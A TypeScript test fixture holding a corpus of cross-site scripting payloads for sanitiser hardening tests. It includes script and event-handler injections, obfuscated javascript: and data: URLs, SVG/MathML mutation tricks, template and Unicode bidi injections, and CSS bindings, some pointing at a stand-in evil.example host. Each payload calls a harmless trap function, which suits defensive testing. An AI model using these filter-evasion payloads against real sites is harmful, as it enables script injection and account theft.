/**
 * Hostile strings for the hardening tests: markup, event handlers, dangerous URLs in many spellings, SVG and
 * MathML tricks, template injections, invisible and reordering Unicode, CSS. Every payload that could run
 * calls `__xss(n)` (n = its index), so a single global trap on the test page proves whether anything ran and
 * which payload it was.
 *
 * Plain data with no imports: the validator's hardening tests read the same corpus.
 */

export type PayloadKind =
  | 'script'
  | 'handler'
  | 'url'
  | 'svg-mathml'
  | 'html'
  | 'template'
  | 'unicode'
  | 'css'
  | 'encoded';

export interface Payload {
  /** Index in {@link payloads}; the argument the payload passes to the trap. */
  n: number;
  kind: PayloadKind;
  text: string;
}

/** The trap every payload calls: `window.__xss(n)`. */
export const TRAP = '__xss';

const base64 = (s: string) => btoa(s);

/**
 * `Ⓧ` stands for the trap call, `Ⓝ` for the payload's index, `Ⓑ` for the base64 of a page that calls the trap,
 * `Ⓔ` for the base64 of the call.
 */
const raw: [PayloadKind, string][] = [
  // Script elements, closing tags of every context the text could land in, parser confusion.
  ['script', '<script>Ⓧ</script>'],
  ['script', '<SCRIPT>Ⓧ</SCRIPT>'],
  ['script', '<script/src=data:text/javascript,Ⓧ></script>'],
  ['script', '<script type="module">Ⓧ</script>'],
  ['script', '"><script>Ⓧ</script>'],
  ['script', "'><script>Ⓧ</script>"],
  ['script', '</script><script>Ⓧ</script>'],
  ['script', '</script ><script>Ⓧ</script\t>'],
  ['script', '<scr<script>ipt>Ⓧ</scr</script>ipt>'],
  ['script', '</title><script>Ⓧ</script>'],
  ['script', '</textarea><script>Ⓧ</script>'],
  ['script', '</style><script>Ⓧ</script>'],
  ['script', '</template><script>Ⓧ</script>'],
  ['script', '</security-brief><script>Ⓧ</script>'],
  ['script', '<!--<script>--><script>Ⓧ</script>'],
  ['script', '--><script>Ⓧ</script><!--'],
  ['script', ']]><script>Ⓧ</script>'],
  ['script', '<noscript><p title="</noscript><img src=x onerror=Ⓧ>">'],
  ['script', '<xmp><p title="</xmp><img src=x onerror=Ⓧ>">'],
  // Event-handler attributes, bare and breaking out of quoted attributes.
  ['handler', '<img src=x onerror=Ⓧ>'],
  ['handler', '<img src="x" onerror="Ⓧ">'],
  ['handler', '<IMG SRC=x OnErRoR=Ⓧ>'],
  ['handler', '<img/src/onerror=Ⓧ>'],
  ['handler', '<img src=x onerror=eval(atob("Ⓔ"))>'],
  ['handler', '<img src=x onerror="&#95;&#95;xss(Ⓝ)">'],
  ['handler', '<svg onload=Ⓧ>'],
  ['handler', '<svg/onload=Ⓧ//'],
  ['handler', '<body onload=Ⓧ>'],
  ['handler', '<iframe onload=Ⓧ></iframe>'],
  ['handler', '<input autofocus onfocus=Ⓧ>'],
  ['handler', '<select autofocus onfocus=Ⓧ></select>'],
  ['handler', '<textarea autofocus onfocus=Ⓧ></textarea>'],
  ['handler', '<details open ontoggle=Ⓧ>'],
  ['handler', '<video><source onerror=Ⓧ></video>'],
  ['handler', '<audio src=x onerror=Ⓧ>'],
  ['handler', '<object data=x onerror=Ⓧ></object>'],
  ['handler', '<style onload=Ⓧ></style>'],
  ['handler', '<link rel=stylesheet href=x onerror=Ⓧ>'],
  ['handler', '<marquee onstart=Ⓧ>m</marquee>'],
  ['handler', '<div onmouseover=Ⓧ style="position:fixed;inset:0">hover</div>'],
  ['handler', '<div tabindex=1 autofocus onfocusin=Ⓧ></div>'],
  ['handler', '" onmouseover="Ⓧ'],
  ['handler', "' onfocus='Ⓧ' autofocus '"],
  ['handler', '" autofocus onfocus="Ⓧ" x="'],
  ['handler', 'x" onerror="Ⓧ'],
  ['handler', '`onerror=Ⓧ`'],
  // URLs: javascript:, data:, vbscript: and friends, in every case, encoding and whitespace trick.
  ['url', 'javascript:Ⓧ'],
  ['url', 'JavaScript:Ⓧ'],
  ['url', 'JAVASCRIPT:Ⓧ'],
  ['url', ' javascript:Ⓧ'],
  ['url', '\tjavascript:Ⓧ'],
  ['url', '\njavascript:Ⓧ'],
  ['url', '\u0001javascript:Ⓧ'],
  ['url', '\u00a0javascript:Ⓧ'],
  ['url', '\ufeffjavascript:Ⓧ'],
  ['url', 'java\tscript:Ⓧ'],
  ['url', 'java\nscript:Ⓧ'],
  ['url', 'java\rscript:Ⓧ'],
  ['url', 'java\u0000script:Ⓧ'],
  ['url', 'javascript\u200b:Ⓧ'],
  ['url', 'javascript&colon;Ⓧ'],
  ['url', 'javascript&#58;Ⓧ'],
  ['url', 'javascript&#x3A;Ⓧ'],
  ['url', '&#106;avascript:Ⓧ'],
  ['url', '&#x6A;&#x61;&#x76;&#x61;script:Ⓧ'],
  ['url', '&#0000106&#0000097vascript:Ⓧ'],
  ['url', 'jav&#x09;ascript:Ⓧ'],
  ['url', 'javascript%3AⓍ'],
  ['url', '%6Aavascript:Ⓧ'],
  ['url', 'javascript://%0aⓍ'],
  ['url', 'javascript://example.org/%0D%0AⓍ'],
  ['url', 'javascript:/*--></title></style></textarea></script><svg/onload=Ⓧ>*/Ⓧ'],
  ['url', 'data:text/html,<script>Ⓧ</script>'],
  ['url', 'DATA:text/html;base64,Ⓑ'],
  ['url', 'data:text/html;charset=utf-8;base64,Ⓑ'],
  ['url', 'data:application/javascript,Ⓧ'],
  ['url', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="Ⓧ"/>'],
  ['url', 'vbscript:Ⓧ'],
  ['url', 'VBScript:MsgBox(Ⓧ)'],
  ['url', 'livescript:Ⓧ'],
  ['url', 'view-source:javascript:Ⓧ'],
  ['url', 'feed:javascript:Ⓧ'],
  ['url', 'blob:https://example.org/Ⓧ'],
  ['url', 'file:///etc/passwd#Ⓧ'],
  ['url', '//evil.example/Ⓧ'],
  ['url', '\\\\evil.example\\Ⓧ'],
  ['url', 'https:javascript:Ⓧ'],
  ['url', 'mailto:a@example.org?body=<script>Ⓧ</script>'],
  ['url', 'https://example.org/"><script>Ⓧ</script>'],
  ['url', 'https://example.org/#" onmouseover="Ⓧ'],
  // SVG and MathML: foreign content, animation, namespace confusion (mutation ⓍSS).
  ['svg-mathml', '<svg><script>Ⓧ</script></svg>'],
  ['svg-mathml', '<svg><a xlink:href="javascript:Ⓧ"><text x="9" y="9">x</text></a></svg>'],
  ['svg-mathml', '<svg><a href="javascript:Ⓧ"><circle r="40"/></a></svg>'],
  ['svg-mathml', '<svg><animate onbegin=Ⓧ attributeName=x dur=1s>'],
  ['svg-mathml', '<svg><set attributeName=href to="javascript:Ⓧ"/></svg>'],
  ['svg-mathml', '<svg><foreignObject><img src=x onerror=Ⓧ></foreignObject></svg>'],
  ['svg-mathml', '<svg><style><img src=x onerror=Ⓧ></style></svg>'],
  ['svg-mathml', '<svg><![CDATA[><img src=x onerror=Ⓧ>]]></svg>'],
  ['svg-mathml', '<math href="javascript:Ⓧ">click</math>'],
  ['svg-mathml', '<math><mtext><table><mglyph><style><img src=x onerror=Ⓧ>'],
  ['svg-mathml', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=Ⓧ>'],
  ['svg-mathml', '<svg><use href="data:image/svg+xml;base64,Ⓑ#x"/></svg>'],
  // Other elements that run or navigate.
  ['html', '<iframe src="javascript:Ⓧ"></iframe>'],
  ['html', '<iframe srcdoc="<script>parent.Ⓧ</script>"></iframe>'],
  ['html', '<object data="javascript:Ⓧ"></object>'],
  ['html', '<embed src="javascript:Ⓧ">'],
  ['html', '<a href="javascript:Ⓧ">click</a>'],
  ['html', '<form action="javascript:Ⓧ"><button>go</button></form>'],
  ['html', '<button formaction="javascript:Ⓧ">go</button>'],
  ['html', '<meta http-equiv="refresh" content="0;url=javascript:Ⓧ">'],
  ['html', '<base href="javascript:Ⓧ//">'],
  ['html', '<template shadowrootmode="open"><img src=x onerror=Ⓧ></template>'],
  ['html', '<template><img src=x onerror=Ⓧ></template>'],
  ['html', '<!--><img src=x onerror=Ⓧ>-->'],
  ['html', '<plaintext><img src=x onerror=Ⓧ>'],
  // Template-literal and mustache injections, and the comment markers Lit uses in its own templates.
  ['template', '${Ⓧ}'],
  ['template', '`${Ⓧ}`'],
  ['template', '{{Ⓧ}}'],
  ['template', "{{constructor.constructor('Ⓧ')()}}"],
  ['template', "{{ $on.constructor('Ⓧ')() }}"],
  ['template', '[[Ⓧ]]'],
  ['template', '<%= Ⓧ %>'],
  ['template', '#{Ⓧ}'],
  ['template', '<!--lit-part--><img src=x onerror=Ⓧ><!--/lit-part-->'],
  ['template', '<?lit$1234$>Ⓧ'],
  ['template', 'lit$1234$<img src=x onerror=Ⓧ>'],
  // Unicode: bidi overrides and isolates, zero-width and invisible characters, look-alikes.
  ['unicode', 'invoice\u202Egpj.exe Ⓧ'],
  ['unicode', '\u202Ejavascript:Ⓧ\u202C'],
  ['unicode', 'safe \u2066Ⓧ\u2069 text'],
  ['unicode', '\u2067\u202B<script>Ⓧ</script>\u202C\u2069'],
  ['unicode', 'java\u200bscript:Ⓧ'],
  ['unicode', 'Tajik\u200bistan\u2060 Ⓧ'],
  ['unicode', 'https://\u0435xample.org/Ⓧ'],
  ['unicode', '\u061c\u200f\u200e Ⓧ'],
  ['unicode', 'Ⓧ\u2028\u2029</script>'],
  // CSS: url(), expression(), imports, bindings.
  ['css', '<div style="background:url(javascript:Ⓧ)">x</div>'],
  ['css', '<div style="width:expression(Ⓧ)">x</div>'],
  ['css', 'expression(Ⓧ)'],
  ['css', 'url("javascript:Ⓧ")'],
  ['css', '<style>@import "javascript:Ⓧ";</style>'],
  ['css', '<style>*{background:url("data:text/html,<script>Ⓧ</script>")}</style>'],
  ['css', '</style><img src=x onerror=Ⓧ>'],
  ['css', '<div style="-moz-binding:url(//evil.example/x.xml#Ⓧ)">x</div>'],
  ['css', '<div style="behavior:url(x.htc)" onmouseenter=Ⓧ>x</div>'],
  // Already-escaped and otherwise encoded markup: must be shown exactly as written, never decoded.
  ['encoded', '&lt;script&gt;Ⓧ&lt;/script&gt;'],
  ['encoded', '&#60;img src=x onerror=Ⓧ&#62;'],
  ['encoded', '\\x3cscript\\x3eⓍ\\x3c/script\\x3e'],
  ['encoded', '\\u003cimg src=x onerror=Ⓧ\\u003e'],
  ['encoded', '%3Cscript%3EⓍ%3C/script%3E'],
  ['encoded', '+ADw-script+AD4-Ⓧ+ADw-/script+AD4-'],
  ['encoded', '&amp;lt;img src=x onerror=Ⓧ&amp;gt;'],
];

/** The corpus, each payload wired to the trap with its own index. */
export const payloads: readonly Payload[] = raw.map(([kind, template], n) => {
  const call = `${TRAP}(${n})`;
  const page = `<script>parent.${call};${call}</script><svg onload="${call}"/>`;
  const text = template
    .replaceAll('\u24b7', base64(page))
    .replaceAll('\u24ba', base64(call))
    .replaceAll('\u24cd', call)
    .replaceAll('\u24c3', String(n));
  return { n, kind, text };
});

/** The payloads meant for URL fields (every payload is also tried there; these are the URL-shaped ones). */
export const urlPayloads: readonly Payload[] = payloads.filter(
  (p) => p.kind === 'url' || p.kind === 'unicode',
);
